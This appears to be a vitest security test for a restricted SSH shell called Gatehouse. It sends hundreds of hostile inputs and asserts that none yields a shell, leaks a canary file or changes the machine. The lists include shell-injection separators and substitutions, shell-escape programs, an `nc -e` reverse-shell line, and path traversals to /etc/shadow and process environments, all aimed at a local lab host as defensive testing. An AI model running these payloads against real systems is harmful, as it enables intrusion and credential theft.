/** Commands over SSH to an account whose shell is Gatehouse: what reads is answered, nothing else comes out of it. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeWith } from '../setup/needs.ts';
import { canary, LoginHost, program, trap } from './login-host.ts';
import { hostNeeds } from './machine.ts';

const needs = { ...hostNeeds, programs: [...hostNeeds.programs, 'ssh', 'ssh-keygen'], paths: [program] };

/** Each is tried as it stands, behind a command that is taken, and as an argument of one. */
const shellTricks = [
  `; ${trap}`,
  `;${trap};`,
  `&& ${trap}`,
  `|| ${trap}`,
  `| ${trap}`,
  `|& ${trap}`,
  `& ${trap}`,
  `$(${trap})`,
  `\`${trap}\``,
  `"$(${trap})"`,
  `"\`${trap}\`"`,
  `'$(${trap})'`,
  `<(${trap})`,
  `>(${trap})`,
  `< /srv/canary.txt`,
  `<<< $(${trap})`,
  `> /var/tmp/traces/redirected`,
  `>>/var/tmp/traces/redirected`,
  `2>&1; ${trap}`,
  `\n${trap}`,
  `\r${trap}`,
  `\r\n${trap}\r\n`,
  `\x0b${trap}`,
  `\x0c${trap}`,
  `\x1b[2J; ${trap}`,
  `\u2028${trap}`,
  `\u0085${trap}`,
  `\uff1b${trap}`,
  `\u037e ${trap}`,
  `';${trap};'`,
  `";${trap};"`,
  `\\;${trap}`,
  `\\\n;${trap}`,
  `' '; ${trap} #`,
  `"; ${trap} #`,
  `'`,
  `"`,
  `\\`,
  `!${trap}`,
  `!!`,
  `\${IFS}${trap}`,
  `$IFS$9${trap}`,
  `{${trap},x}`,
  `(${trap})`,
  `((1))`,
  `{ ${trap}; }`,
  `* ?`,
  `~/canary.txt`,
  `$HOME/canary.txt`,
  `%s%s%s%n`,
  `--`,
  `-- ${trap}`,
  `-c ${trap}`,
  `-i`,
  `-l`,
  `-s`,
  `-`,
];

/** Tried as they stand. */
const programs = [
  trap,
  `exec ${trap}`,
  `env ${trap}`,
  `command ${trap}`,
  `sh`,
  `/bin/sh`,
  `sh -c ${trap}`,
  `/bin/sh -c '${trap}'`,
  `bash -i`,
  `/bin/bash --norc`,
  `dash`,
  `busybox sh`,
  `python3 -c 'import os'`,
  `perl -e 'exec "${trap}"'`,
  `node -e 'require("child_process").execSync("${trap}")'`,
  `/usr/bin/node /srv/trap.cjs`,
  `node`,
  `su`,
  `su - root`,
  `sudo -i`,
  `login`,
  `screen`,
  `tmux`,
  `script -c ${trap}`,
  `less /srv/canary.txt`,
  `cat /srv/canary.txt`,
  `head -c 999 /srv/canary.txt`,
  `vi /srv/canary.txt`,
  `ed`,
  `awk 'BEGIN{system("${trap}")}'`,
  `find / -exec ${trap} ;`,
  `xargs ${trap}`,
  `nc -e ${trap} 10.77.0.1 4444`,
  `chsh -s /bin/sh`,
  `crontab -`,
  `at now`,
  `systemctl`,
  `journalctl`,
  `systemd-run --user ${trap}`,
  `dd if=/srv/canary.txt`,
  `tar cf - /srv`,
  `cp /srv/canary.txt /dev/stdout`,
  `id`,
  `echo ${canary.slice(0, 6)}`,
  `. /srv/trap.sh`,
  `source /srv/trap.sh`,
  `eval ${trap}`,
  `../../usr/local/bin/trap-program`,
  `./gatehouse/../../bin/sh`,
  `/bin/sh/gatehouse`,
  `gatehouse ${trap}`,
  `gatehouse -c ${trap}`,
  `gatehouse gatehouse ${trap}`,
  `gatehouse sh -c ${trap}`,
  `toString`,
  `__proto__`,
  `constructor`,
  `scp -t /home/operator`,
  `scp -f /srv/canary.txt`,
  `/usr/bin/scp -r -t .`,
  `/usr/lib/openssh/sftp-server`,
  `/usr/lib/openssh/sftp-server -d /`,
  `internal-sftp`,
  `sftp-server -e`,
  `rsync --server --sender -logDtpr . /srv/`,
  `rsync --server -logDtpr . /home/operator/`,
  `git-upload-pack '/srv'`,
  `git-receive-pack '/srv'`,
  `git-upload-archive /srv`,
  `svnserve -t`,
  `cvs server`,
  `mosh-server new`,
];

/** Of our own commands: what would read or write a file, start something, or change the machine. */
const ownCommands = [
  `service`,
  `service --state /home/operator`,
  `way-back`,
  `reset-now`,
  `platform serve --suffix x.example`,
  `platform code list --folder /srv`,
  `platform code create a --folder /home/operator/p`,
  `platform appliance list --folder /srv`,
  `report open /srv/canary.txt --identity /srv/canary.txt`,
  `report open /srv/canary.txt --identity /srv/canary.txt --to /home/operator/x`,
  `report save x /home/operator/saved`,
  `report make`,
  `report upload x a@10.77.0.1 --key /srv/canary.txt`,
  `proxy set --proxy p.example:1 --user u --password-file /srv/canary.txt`,
  `apply /srv/canary.txt`,
  `apply --dry-run /srv/canary.txt`,
  `export --secrets`,
  `--operator-password-file /srv/canary.txt status`,
  `--operator-password-file=/srv/canary.txt hosts set a.example=10.0.0.1`,
  `status --operator-password-file /srv/canary.txt`,
  `--lab status`,
  `--lab=healthy status`,
  `status --lab=healthy`,
  `--lab-folder /home/operator/lab status`,
  `--lab-folder=/home/operator/lab`,
  `--socket /srv/canary.txt status`,
  `status --socket=/home/operator/s`,
  `--brand /srv/canary.txt info`,
  `--brand=../../srv/canary.txt info`,
  `--json --lab units list`,
  `units restart ssh`,
  `units stop gatehouse`,
  `containers stop x`,
  `hosts set evil.example=10.0.0.1`,
  `time set --zone Asia/Kathmandu`,
  `network set eth0 --dhcp`,
  `network reset`,
  `dns clear`,
  `console set --lock 0`,
  `console set-password`,
  `ssh disable`,
  `settings restore 1`,
  `capture start`,
  `registration register 00000000-0000-4000-8000-000000000000`,
  `power reboot`,
  `power shutdown --in 0`,
  `reset --yes-delete-everything`,
  `reset --plan`,
  `setup finish`,
  `changes keep`,
];

/** Paths where a command that reads takes one. None leads out of the log folder. */
const paths = [
  '/srv/canary.txt',
  '../../srv/canary.txt',
  '../../../../../../srv/canary.txt',
  '/var/log/../../srv/canary.txt',
  '/var/log//../../srv/canary.txt',
  './../../srv/canary.txt',
  '....//....//srv/canary.txt',
  '%2e%2e/%2e%2e/srv/canary.txt',
  '..\\\\..\\\\srv\\\\canary.txt',
  'leads-out',
  'folder-out/canary.txt',
  '/proc/self/environ',
  '../../proc/self/environ',
  '../../proc/1/environ',
  '/etc/shadow',
  '../../etc/shadow',
  '/dev/stdin',
  '/dev/tty',
  '../../dev/mem',
  '-',
  '~/canary.txt',
  'file:///srv/canary.txt',
  "''",
];

/** Taken, since nothing in them means anything to Gatehouse: a "--" with nothing behind it, a unit that never logged. */
const idle = ['status --', 'logs show --', 'logs show --unit ../../srv/canary.txt'];

const inputs = [
  ...shellTricks.flatMap((trick) => [trick, `status ${trick}`, `ping -- ${trick}`, `logs show ${trick}`]),
  ...programs,
  ...programs.slice(0, 8).map((input) => `status\n${input}`),
  ...ownCommands,
  ...paths.flatMap((path) => [`logs show ${path}`, `logs search CANARY ${path}`]),
  `logs show --container ../../srv/canary.txt`,
  `logs show --unit ../../srv/canary.txt`,
  `units status ../../srv/canary.txt`,
  `units log /srv/canary.txt`,
  `images show /srv/canary.txt`,
  `stats history unit ../../srv/canary.txt`,
  `network show ../../srv/canary.txt`,
  `ping -f/srv/canary.txt`,
  `ping -c1 -f localhost`,
  `ping --count 1 -I${trap} localhost`,
  'a'.repeat(100_000),
  `status ${'a '.repeat(50_000)}`,
  `ping ${'"'.repeat(100_001)}`,
  `status ${';'.repeat(100_000)}${trap}`,
  `${'gatehouse '.repeat(9_000)}${trap}`,
  `ping ${'é漢🙂\u202e'.repeat(500)}`,
];

describeWith(needs, 'commands over SSH to an account whose shell is Gatehouse', () => {
  let login: LoginHost;
  beforeAll(async () => {
    login = await LoginHost.boot();
    await login.root(`echo ${canary} >/var/log/own.log; chmod 640 /var/log/own.log; chgrp adm /var/log/own.log
      ln -s /srv/canary.txt /var/log/leads-out; ln -s /srv /var/log/folder-out; echo ${canary} >>/etc/shadow-`);
  }, 240_000);
  afterAll(() => login?.end());

  test('what reads is answered, for people and as JSON', async () => {
    expect(await login.ssh('status')).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('10.77.0.2') });
    expect(JSON.parse((await login.ssh('info --json')).stdout)).toMatchObject({ shortfalls: expect.any(Array) });
    expect((await login.ssh('gatehouse units list')).stdout).toContain('ssh.service');
    expect((await login.ssh('\'units\' "status" s\\sh')).stdout).toMatch(/^ssh.service/);
    expect((await login.ssh('ping --count 1 10.77.0.1')).stdout).toContain('1 received');
    expect((await login.ssh('stats')).stdout).toContain('appliance');
    const help = await login.ssh('help');
    expect(help.stdout).toContain('units');
    expect(help.stdout).not.toMatch(/--lab|--socket|password-file|^ +(service|apply|reset) /m);
  }, 60_000);

  test('what changes is refused in one sentence, with 4', async () => {
    const { stderr, stdout, exitCode } = await login.ssh('units restart ssh');
    expect({ exitCode, stdout }).toEqual({ exitCode: 4, stdout: '' });
    expect(stderr).toMatch(/^gatehouse: .*units restart is not allowed here\..*\n$/);
    expect(JSON.parse((await login.ssh('units restart ssh --json')).stdout)).toMatchObject({
      error: { code: 'not-allowed' },
    });
  });

  test(`${inputs.length} other inputs: no shell, no file, no program came of any`, async () => {
    expect(inputs.length).toBeGreaterThan(200);
    const told: string[] = [];
    for (const input of inputs) {
      const { stdout, stderr, exitCode } = await login.ssh(input);
      const said = `${stdout}${stderr}`;
      const name = JSON.stringify(input.slice(0, 80));
      if (said.includes(canary) || /uid=\d+\(|root:[x*!]:|\bPATH=/.test(said))
        told.push(`${name} let something out: ${said}`);
      const foreign = await login.foreign();
      if (foreign.length > 0) told.push(`${name} left ${foreign.join()}`);
      if (exitCode === 0 && !idle.includes(input)) told.push(`${name} was taken: ${said.slice(0, 200)}`);
    }
    expect(told).toEqual([]);
    expect(await login.sprung()).toEqual([]);
    expect(await login.root('ls -A /home/operator | sort | tr "\\n" " "')).toBe(
      '.bash_profile .bashrc .exrc .lesskey .pam_environment .profile .shrc .ssh canary.txt ',
    );
    expect(await login.root('systemctl is-active ssh gatehouse | tr "\\n" " "')).toBe('active active ');
  }, 600_000);

  test('the traps do spring where there is a shell', async () => {
    await login.root(
      `setpriv --reuid=guest --clear-groups sh -c '${trap}; NODE_OPTIONS=--require=/srv/trap.cjs node -e 0'`,
    );
    expect(await login.sprung()).toEqual(expect.arrayContaining(['node', expect.stringMatching(/^\d+$/)]));
    await login.clean();
  });
});
